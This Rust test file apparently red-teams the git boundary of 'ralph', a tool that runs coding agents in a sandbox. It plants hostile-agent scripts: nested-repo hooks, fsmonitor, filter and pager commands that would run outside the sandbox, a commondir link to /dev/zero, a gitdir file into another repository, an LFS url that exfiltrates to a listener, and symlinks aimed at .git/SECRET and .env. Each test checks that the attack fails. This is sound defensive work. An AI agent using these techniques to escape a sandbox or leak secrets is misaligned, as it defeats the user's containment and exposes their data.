//! A hostile review of the git boundary (issue 29, Done-when 2): a sandboxed agent that knows
//! the design looks for a way from what it can write — its work tree, its own git directory, the
//! names of files — to a program ralph runs outside the sandbox, to ralph's git opening a git
//! directory it wrote, or to ralph's commits losing what they should hold. Each attack runs
//! against a sandboxed worktree loop and a sandboxed main-tree loop; each has its control (the
//! plain mechanism, run by the user's own git, does what the attack says). An attack that gets
//! through is kept here `#[ignore]`d, naming the hole.

use std::path::PathBuf;
use std::process::Output;
use std::time::Duration;

use crate::common::*;

use super::git_boundary::{Loop, MEMORY_KIB, marks, marks_dir, plain_git};

/// A sandboxed loop of `kind` on `A.md` (one box) whose agent runs `plant` (in the work tree,
/// once), writes `work.txt` and checks the box; a worktree loop is merged. `vars` are added to
/// ralph's environment.
fn attacked(env: &TestEnv, kind: Loop, plant: &str, vars: &[(&str, &str)]) -> Output {
    attacked_with(env, kind, plant, vars, &[])
}

/// [`attacked`], with `extra` arguments to `ralph run`.
pub(super) fn attacked_with(
    env: &TestEnv,
    kind: Loop,
    plant: &str,
    vars: &[(&str, &str)],
    extra: &[&str],
) -> Output {
    env.write("A.md", &task(&["a1"]));
    env.commit_all("task");
    let script = env.dir().join("agent.sh");
    std::fs::write(
        &script,
        format!(
            "[ -e planted ] || {{ touch planted; ( {plant}\n) >/dev/null 2>&1; }}\n\
             echo work > work.txt\nsed -i '0,/- \\[ \\]/s//- [x]/' \"$RALPH_TASK_FILE\"\n"
        ),
    )
    .unwrap();
    let agent = format!("sh '{}'", script.display());
    let mut args = vec!["run"];
    if let Loop::Worktree = kind {
        args.extend(["--worktree", "w", "--merge"]);
    }
    args.extend(["A.md", "--agent-cmd", &agent, "--yes", "--grace", "1s"]);
    args.extend(["--sandbox", "--max-iterations", "2"]);
    args.extend(extra);
    ralph_with_memory_limit(env, MEMORY_KIB, &args, vars, Duration::from_secs(90))
}

/// A nested repository `sub` with a commit, its own git directory configured by the agent to
/// run a program (writing a marker) at every turn git could take: a file-system monitor, hooks
/// (`post-index-change`, `reference-transaction`, `post-checkout`), a clean filter for every
/// file, an ssh command, an external diff, a pager; registered in `.gitmodules` with `ignore =
/// none` so that a status looks inside it; then a change in it.
fn nested_repo_plant(env: &TestEnv) -> String {
    let m = marks_dir(env).display().to_string();
    format!(
        "mkdir sub && cd sub && git init -q && echo x > f && git add -A && \
         git -c user.name=a -c user.email=a@e commit -qm sub\n\
         git config core.fsmonitor \"touch {m}/fsmonitor; echo\"\n\
         git config filter.ev.clean \"touch {m}/clean; cat\"\n\
         git config core.sshCommand \"touch {m}/ssh\"\n\
         git config diff.external \"touch {m}/diff\"\n\
         git config core.pager \"touch {m}/pager\"\n\
         mkdir h && git config core.hooksPath \"$PWD/h\"\n\
         for x in post-index-change reference-transaction post-checkout; do \
         printf '#!/bin/sh\\ntouch {m}/hook-%s\\n' $x > h/$x; chmod +x h/$x; done\n\
         echo '* filter=ev' > .gitattributes; echo y > f; cd ..\n\
         printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ./sub\\n\\tignore = none\\n' > .gitmodules\n"
    )
}

/// ralph's git (outside) leaves the agent's nested repository alone — not committed, named in a
/// warning — and runs nothing its git directory names, nor at the merge nor the main tree's
/// next status.
#[test]
fn a_nested_repositorys_configuration_never_runs_outside() {
    for kind in [Loop::Worktree, Loop::MainTree] {
        if !bwrap_works() {
            return;
        }
        let env = TestEnv::outside_tmp();
        let out = attacked(&env, kind, &nested_repo_plant(&env), &[]);
        assert_exit(&out, 0);
        assert_eq!(
            marks(&env),
            Vec::<String>::new(),
            "{kind:?}: {}",
            stderr(&out)
        );
        assert_left_alone(&env, kind, &out);
        assert_eq!(env.read("work.txt"), "work\n", "{kind:?}");
    }
}

/// The nested repository `sub` is not in main's tree, and a warning names it.
fn assert_left_alone(env: &TestEnv, kind: Loop, out: &Output) {
    let tree = env.git(&["ls-tree", "-r", "main"]);
    assert!(
        !tree.contains("160000") && !tree.contains("\tsub"),
        "{kind:?}: sub taken: {tree}"
    );
    assert!(
        stderr(out)
            .lines()
            .any(|l| l.contains("warning") && l.contains("sub") && l.contains("nested repository")),
        "{kind:?}: no warning names sub: {}",
        stderr(out)
    );
}

/// Control: the same nested repository, added as ralph adds it and then under a plain `git
/// status` in the repository holding it, runs its monitor, its hook and its filter.
#[test]
fn control_a_plain_status_runs_a_nested_repositorys_configuration() {
    let env = TestEnv::outside_tmp();
    let plant = nested_repo_plant(&env);
    let out = plain_git(
        &env,
        &env.repo,
        &format!("{plant}\ngit add -A && git status --short"),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let seen = marks(&env);
    for m in ["clean", "fsmonitor", "hook-post-index-change"] {
        assert!(seen.iter().any(|s| s == m), "{m}: {seen:?}");
    }
}

/// A nested repository whose git directory's `commondir` leads to `/dev/zero`.
const NESTED_COMMONDIR_ZERO: &str = "mkdir sub && cd sub && git init -q && echo x > f && \
     git add -A && git -c user.name=a -c user.email=a@e commit -qm sub && \
     ln -sf /dev/zero .git/commondir";

/// The agent's nested repository is a git directory the agent wrote: ralph's git outside never
/// opens it (issue 29, "never by ralph's git opening a git dir the agent could write"). A
/// `commondir` there leading to `/dev/zero` leaves the run going, the work committed, the nested
/// repository left out with a warning.
///
/// The hole it was: git's walk of the work tree (`git status`, `git ls-files --others`, `git
/// add`) reads the `HEAD` and `commondir` of every directory holding a `.git` it meets, and the
/// refresh of a gitlink resolves its `HEAD`: the `/dev/zero` above had ralph's git die "Out of
/// memory" and the run stop, exit 1; libgit2 in ralph's own process (no memory limit) opened
/// it too (`git2::Repository::open` in `plan_nested_repo`). Now ralph finds nested
/// repositories by its own walk, which opens no `.git`, and excludes each from every such
/// command (`git/nested.rs`).
#[test]
fn a_nested_repositorys_git_directory_is_never_opened_outside() {
    for kind in [Loop::Worktree, Loop::MainTree] {
        if !bwrap_works() {
            return;
        }
        let env = TestEnv::outside_tmp();
        let vars = [("RALPH_GIT_MEMORY", "64M")];
        let out = attacked(&env, kind, NESTED_COMMONDIR_ZERO, &vars);
        assert_exit(&out, 0);
        assert!(
            !stderr(&out).contains("Out of memory"),
            "{kind:?}: {}",
            stderr(&out)
        );
        assert_left_alone(&env, kind, &out);
        assert_eq!(env.read("work.txt"), "work\n", "{kind:?}");
    }
}

/// Control: a plain `git add -A` of such a nested repository dies of it.
#[test]
fn control_a_nested_commondir_to_dev_zero_kills_a_plain_git_add() {
    let env = TestEnv::outside_tmp();
    let out = plain_git(
        &env,
        &env.repo,
        &format!("{NESTED_COMMONDIR_ZERO}\ncd .. && git add -A"),
    );
    assert!(!out.status.success(), "git survived");
    assert!(stderr(&out).contains("Out of memory"), "{}", stderr(&out));
}

/// Another of the user's repositories, outside the one ralph works on, with a commit; and
/// the agent's `sub/.git`, a file leading there (`gitdir:`).
fn other_repository(env: &TestEnv) -> (PathBuf, String) {
    let other = env.dir().join("other");
    let out = plain_git(
        env,
        env.dir(),
        "git init -q other && cd other && echo secret > s && git add s && \
         git -c user.name=o -c user.email=o@e commit -qm other",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let plant = format!(
        "mkdir sub && echo s > sub/f && echo 'gitdir: {}/.git' > sub/.git",
        other.display()
    );
    (other, plant)
}

/// A nested repository that is only a `.git` file naming another of the user's repositories:
/// ralph's git outside does not read that repository (nor record its commit as a gitlink).
#[test]
fn a_nested_git_file_never_leads_ralphs_git_into_another_repository() {
    for kind in [Loop::Worktree, Loop::MainTree] {
        if !bwrap_works() {
            return;
        }
        let env = TestEnv::outside_tmp();
        let (other, plant) = other_repository(&env);
        let head = git_in(&env, &other, &["rev-parse", "HEAD"]);
        let out = attacked(&env, kind, &plant, &[]);
        assert_exit(&out, 0);
        let tree = env.git(&["ls-tree", "-r", "main"]);
        assert!(!tree.contains(head.trim()), "{kind:?}: {tree}");
        assert_left_alone(&env, kind, &out);
        assert_eq!(env.read("work.txt"), "work\n", "{kind:?}");
    }
}

/// Control: a plain `git add -A` reads the other repository through that file, and records its
/// commit as a gitlink.
#[test]
fn control_a_plain_git_add_follows_a_nested_git_file_into_another_repository() {
    let env = TestEnv::outside_tmp();
    let (other, plant) = other_repository(&env);
    let head = git_in(&env, &other, &["rev-parse", "HEAD"]);
    let out = plain_git(&env, &env.repo, &format!("{plant}\ngit add -A"));
    assert!(out.status.success(), "{}", stderr(&out));
    let staged = env.git(&["ls-files", "-s", "sub"]);
    assert!(
        staged.starts_with("160000") && staged.contains(head.trim()),
        "{staged}"
    );
}

/// A `commit-msg` hook that adds a trailer to the message file it is given, and refuses when
/// there is none.
fn commit_msg_hook(env: &TestEnv) {
    let hook = env.repo.join(".git/hooks/commit-msg");
    std::fs::write(
        &hook,
        "#!/bin/sh\n[ -f \"$1\" ] || { echo \"no message at $1\" >&2; exit 1; }\n\
         echo 'Hooked: yes' >> \"$1\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
}

/// The `commit-msg` hook ralph runs for its commit in a main-tree loop edits the message —
/// under `--sandbox` as without it (the control, the first case).
///
/// It failed before (a regression of the boundary): `hooks::run` wrote `COMMIT_EDITMSG` in the
/// repository's real git directory and handed the hook that path, but inside the sandbox the
/// path is the agent's own git directory, where no such file was: every commit was refused
/// ("no message at …/.git/COMMIT_EDITMSG"), the work left staged, the run never completing.
#[test]
fn the_commit_msg_hook_edits_the_message_in_the_sandbox_too() {
    if !bwrap_works() {
        return;
    }
    for sandboxed in [false, true] {
        let env = TestEnv::outside_tmp();
        env.write("A.md", &task(&["a1"]));
        env.commit_all("task");
        commit_msg_hook(&env);
        let agent = checking_agent(&env, "agent", "");
        let mut args = vec!["run", "A.md", "--agent-cmd", &agent, "--yes"];
        args.extend(["--max-iterations", "1"]);
        if sandboxed {
            args.push("--sandbox");
        }
        let out = ralph_with_memory_limit(&env, MEMORY_KIB, &args, &[], Duration::from_secs(60));
        assert_exit(&out, 0);
        let msg = env.git(&["log", "-1", "--format=%B"]);
        assert!(
            msg.contains("Hooked: yes"),
            "sandboxed {sandboxed}: {msg}\n{}",
            stderr(&out)
        );
    }
}

/// A `commit-msg` hook (the repository's: the agent can write it) that puts a link to a file
/// outside the repository in place of the message: ralph reads the message back following no
/// link, so the secret never becomes the commit's message — sandboxed or not. The control: the
/// hook really made the link (it says so in a marker file).
#[test]
fn a_message_the_commit_msg_hook_linked_elsewhere_is_never_read() {
    if !bwrap_works() {
        return;
    }
    for sandboxed in [false, true] {
        let env = TestEnv::outside_tmp();
        let secret = env.dir().join("secret.txt");
        std::fs::write(&secret, "SECRET-LINKED-MESSAGE\n").unwrap();
        let marker = env.repo.join("linked.txt");
        env.write("A.md", &task(&["a1"]));
        env.write(".gitignore", "linked.txt\n");
        env.commit_all("task");
        let hook = env.repo.join(".git/hooks/commit-msg");
        std::fs::write(
            &hook,
            format!(
                "#!/bin/sh\nrm -f \"$1\" && ln -s '{}' \"$1\" && echo made > '{}'\n",
                secret.display(),
                marker.display()
            ),
        )
        .unwrap();
        std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        let agent = checking_agent(&env, "agent", "");
        let mut args = vec!["run", "A.md", "--agent-cmd", &agent, "--yes"];
        args.extend(["--max-iterations", "1"]);
        if sandboxed {
            args.push("--sandbox");
        }
        let out = ralph_with_memory_limit(&env, MEMORY_KIB, &args, &[], Duration::from_secs(60));
        assert!(
            marker.exists(),
            "sandboxed {sandboxed}: the hook made no link\n{}",
            stderr(&out)
        );
        let log = env.git(&["log", "--format=%B"]);
        assert!(
            !log.contains("SECRET-LINKED-MESSAGE"),
            "sandboxed {sandboxed}: {log}\n{}",
            stderr(&out)
        );
    }
}

/// A listener on a free local port that counts the connections made to it (each dropped at
/// once): the address, and the count.
pub(super) fn listener() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap().to_string();
    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = seen.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            drop(c);
        }
    });
    (addr, seen)
}

/// Whether git-lfs is installed (says why the test skips otherwise).
pub(super) fn git_lfs_works() -> bool {
    let ok = std::process::Command::new("git-lfs")
        .arg("version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        skip_or_fail("git-lfs is not installed");
    }
    ok
}

/// The user's global configuration as `git lfs install` writes it.
pub(super) fn lfs_global(env: &TestEnv) -> PathBuf {
    let p = env.dir().join("gitconfig");
    std::fs::write(
        &p,
        "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\
         \tprocess = git-lfs filter-process\n\trequired = true\n",
    )
    .unwrap();
    p
}

/// The agent commits an LFS pointer, `.gitattributes` naming the user's `lfs` filter for it
/// and a `.lfsconfig` whose `lfs.url` carries what it wants out (a listener's address stands
/// for its server).
fn lfs_plant(addr: &str) -> String {
    format!(
        "printf '[lfs]\\n\\turl = http://{addr}/exfil-SECRET\\n' > .lfsconfig\n\
         echo 'big.bin filter=lfs -text' > .gitattributes\n\
         printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%s\\nsize 12\\n' \
         4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393 > big.bin\n\
         git add -A && git -c user.name=a -c user.email=a@e commit -qm lfs\n"
    )
}

/// An agent without network (`--sandbox-net none`) never has ralph's git reach the network for
/// it: the user's `git lfs install` configuration (the `lfs` filter in `~/.gitconfig`) is
/// there, the agent's commit names that filter and a `.lfsconfig` pointing at its server, and
/// the loop is merged; then the user's next `--worktree` loop checks the same out. The pointer
/// stays a pointer in the main tree, and ralph says so once, naming `git lfs pull`.
///
/// It failed before: the merge (`git merge`, outside, in the user's main tree) checked out the
/// agent's `.gitattributes` and ran the user's smudge filter, git-lfs, which read the agent's
/// `.lfsconfig` and POSTed to its `lfs.url` (`…/exfil-SECRET/objects/batch`), 18 connections:
/// a program ralph runs outside, at the agent's say, reaching the network the sandbox took
/// away. The merge then failed, the main tree left half-merged. `git worktree add` of the next
/// loop smudged the same way.
#[test]
fn an_agent_without_network_never_has_ralphs_git_reach_it() {
    if !bwrap_works() || !git_lfs_works() {
        return;
    }
    let env = TestEnv::outside_tmp();
    let (addr, seen) = listener();
    let global = lfs_global(&env);
    let vars = [("GIT_CONFIG_GLOBAL", global.to_str().unwrap())];
    let plant = format!("{}\nexit 0", lfs_plant(&addr));
    let out = attacked_with(
        &env,
        Loop::Worktree,
        &plant,
        &vars,
        &["--sandbox-net", "none"],
    );
    let n = seen.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(
        n,
        0,
        "connections from outside the sandbox: {}",
        stderr(&out)
    );
    assert_exit(&out, 0);
    assert!(
        env.read("big.bin").starts_with("version https://git-lfs"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        stderr(&out).matches("git lfs pull").count(),
        1,
        "{}",
        stderr(&out)
    );
    // The next worktree loop: `git worktree add` checks the pointer out again.
    env.write("B.md", &task(&["b1"]));
    env.commit_all("next");
    let agent = "sh -c \"sed -i '0,/- \\[ \\]/s//- [x]/' \\\"$RALPH_TASK_FILE\\\"\"";
    let args = [
        "run",
        "--worktree",
        "next",
        "B.md",
        "--agent-cmd",
        agent,
        "--yes",
        "--sandbox",
    ];
    let next = ralph_with_memory_limit(&env, MEMORY_KIB, &args, &vars, Duration::from_secs(90));
    assert_exit(&next, 0);
    let n = seen.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(n, 0, "connections from the next loop: {}", stderr(&next));
    assert!(stderr(&next).contains("git lfs pull"), "{}", stderr(&next));
}

/// Control: the user's own `git checkout` of such a commit runs git-lfs, which contacts the
/// `lfs.url` of the commit's `.lfsconfig`.
#[test]
fn control_a_plain_checkout_of_an_lfs_pointer_contacts_its_lfs_url() {
    if !git_lfs_works() {
        return;
    }
    let env = TestEnv::outside_tmp();
    let (addr, seen) = listener();
    let global = lfs_global(&env);
    env.write("A.md", "a\n");
    env.commit_all("one");
    let mut cmd = env.command("sh");
    cmd.env("GIT_CONFIG_GLOBAL", &global)
        .arg("-c")
        .arg(format!(
            "git checkout -q -b side && {{ {} }} && git checkout -q main && \
             rm -f big.bin && git checkout side",
            lfs_plant(&addr)
        ))
        .current_dir(&env.repo);
    let out = run_with_limit(cmd, Duration::from_secs(60));
    assert!(
        seen.load(std::sync::atomic::Ordering::SeqCst) > 0,
        "{}",
        stderr(&out)
    );
}

/// The agent commits, then declares its git directory shallow at ralph's tip (its `shallow`
/// file naming the commit its own descends from): what ralph fetches never makes the user's
/// repository shallow, and the agent's commit is taken with all the history below it.
const SHALLOW_PLANT: &str = "echo agent > agent.txt && git add -A && \
     git -c user.name=a -c user.email=a@e commit -qm 'the agent: work' && \
     git rev-parse HEAD~1 > \"$(git rev-parse --absolute-git-dir)/shallow\"";

#[test]
fn an_agents_shallow_file_never_makes_the_users_repository_shallow() {
    for kind in [Loop::Worktree, Loop::MainTree] {
        if !bwrap_works() {
            return;
        }
        let env = TestEnv::outside_tmp();
        env.write("one.txt", "1\n");
        env.commit_all("one");
        let out = attacked(&env, kind, SHALLOW_PLANT, &[]);
        assert_exit(&out, 0);
        assert!(!env.repo.join(".git/shallow").exists(), "{kind:?}");
        let log = env.git(&["log", "--format=%s", "main"]);
        assert!(log.contains("the agent: work"), "{kind:?}: {log}");
        assert!(log.trim_end().ends_with("one"), "{kind:?}: {log}");
    }
}

/// Control: a plain clone of a repository so planted is shallow.
#[test]
fn control_a_clone_of_a_planted_shallow_repository_is_shallow() {
    let env = TestEnv::outside_tmp();
    env.write("one.txt", "1\n");
    env.commit_all("one");
    let out = plain_git(
        &env,
        &env.repo,
        &format!("{SHALLOW_PLANT} && git clone -q \"file://$PWD\" ../clone"),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(env.dir().join("clone/.git/shallow").exists());
}

/// A sandboxed main-tree loop whose agent, at its first attempt, replaces `.ralph/progress.md`
/// with a link to `target` (relative to `.ralph/`) and stops; at its second it copies what
/// `.ralph/progress.md` holds into `leak.txt` and checks the box. Every commit's text, joined.
fn progress_link_run(env: &TestEnv, target: &str) -> (Output, String) {
    env.write("A.md", &task(&["a1"]));
    env.commit_all("task");
    let script = env.dir().join("agent.sh");
    std::fs::write(
        &script,
        format!(
            "if [ ! -e planted ]; then touch planted; rm -f .ralph/progress.md; \
             ln -s '{target}' .ralph/progress.md; exit 0; fi\n\
             cat .ralph/progress.md > leak.txt\n\
             sed -i '0,/- \\[ \\]/s//- [x]/' \"$RALPH_TASK_FILE\"\n"
        ),
    )
    .unwrap();
    let agent = format!("sh '{}'", script.display());
    let args = [
        "run",
        "A.md",
        "--agent-cmd",
        &agent,
        "--yes",
        "--sandbox",
        "--max-iterations",
        "3",
    ];
    let out = env.ralph_with_limit(&args, &[], Duration::from_secs(90));
    let all = env.git(&["log", "--all", "-p", "--format=%H %s"]);
    (out, all)
}

/// The agent cannot read the real `.git` of a main-tree loop (it is not in the sandbox); a
/// `.ralph/progress.md` it links to `../.git/SECRET` never has ralph, outside, read that file
/// for it. Before: ralph's status-block update read the secret through the link and wrote it
/// back as a regular `progress.md`, which the agent's next attempt committed as `leak.txt`.
#[test]
fn a_link_at_ralphs_progress_file_never_reads_the_git_directory_for_the_agent() {
    if !bwrap_works() {
        return;
    }
    let env = TestEnv::outside_tmp();
    std::fs::write(env.repo.join(".git/SECRET"), "TOP-SECRET-IN-THE-GIT-DIR\n").unwrap();
    let (out, all) = progress_link_run(&env, "../.git/SECRET");
    assert_exit(&out, 0);
    assert!(!all.contains("TOP-SECRET"), "{all}");
    assert!(
        env.read("leak.txt").contains("## Current Status"),
        "{}",
        env.read("leak.txt")
    );
}

/// The same with a file of the repository the user hides from the agent (`sandbox_hidden`).
#[test]
fn a_link_at_ralphs_progress_file_never_reads_a_hidden_file_for_the_agent() {
    if !bwrap_works() {
        return;
    }
    let env = TestEnv::outside_tmp();
    env.write(".gitignore", ".env\n");
    env.write(".env", "API_KEY=DOTENV-SECRET-123\n");
    let config = env.home.join(".config/ralph/config.toml");
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    let hidden = env.repo.join(".env");
    std::fs::write(
        &config,
        format!("sandbox_hidden = [\"{}\"]\n", hidden.display()),
    )
    .unwrap();
    let (out, all) = progress_link_run(&env, "../.env");
    assert_exit(&out, 0);
    assert!(!all.contains("DOTENV-SECRET"), "{all}");
    assert_eq!(env.read(".env"), "API_KEY=DOTENV-SECRET-123\n");
}

/// Control: a plain reader that follows links (as ralph did) gets the hidden file's text.
#[test]
fn control_a_link_at_the_progress_file_reads_its_target() {
    let env = TestEnv::new();
    std::fs::write(env.repo.join(".git/SECRET"), "TOP-SECRET\n").unwrap();
    std::fs::create_dir_all(env.repo.join(".ralph")).unwrap();
    std::os::unix::fs::symlink("../.git/SECRET", env.repo.join(".ralph/progress.md")).unwrap();
    assert_eq!(env.read(".ralph/progress.md"), "TOP-SECRET\n");
}

/// A nested repository whose `commondir` leads to `/dev/zero`, made by the agent of iteration 2
/// — after ralph's git walked the tree in iteration 1 — is found before ralph's next git and
/// never opened by it (ralph keeps what its walk learnt only while no program that may write
/// the tree ran since: `files::writers_started`).
#[test]
fn a_nested_repository_made_after_ralphs_last_walk_is_found_before_its_next_git() {
    for kind in [Loop::MainTree, Loop::Worktree] {
        if !bwrap_works() {
            return;
        }
        let env = TestEnv::outside_tmp();
        env.write("A.md", &task(&["a1"]));
        env.commit_all("task");
        let agent = checking_agent(
            &env,
            "agent",
            &format!(
                "[ -e first ] || {{ echo one > first; exit 0; }}\n( {NESTED_COMMONDIR_ZERO} ) >/dev/null 2>&1"
            ),
        );
        let mut args = vec!["run"];
        if let Loop::Worktree = kind {
            args.extend(["--worktree", "w", "--merge"]);
        }
        args.extend(["A.md", "--agent-cmd", &agent, "--yes", "--sandbox"]);
        args.extend(["--max-iterations", "3"]);
        let vars = [("RALPH_GIT_MEMORY", "64M")];
        let out = ralph_with_memory_limit(&env, MEMORY_KIB, &args, &vars, Duration::from_secs(90));
        assert!(
            !stderr(&out).contains("Out of memory"),
            "{kind:?}: {}",
            stderr(&out)
        );
        assert_exit(&out, 0);
        assert_eq!(env.read("work-agent.txt"), "agent\n", "{kind:?}");
    }
}
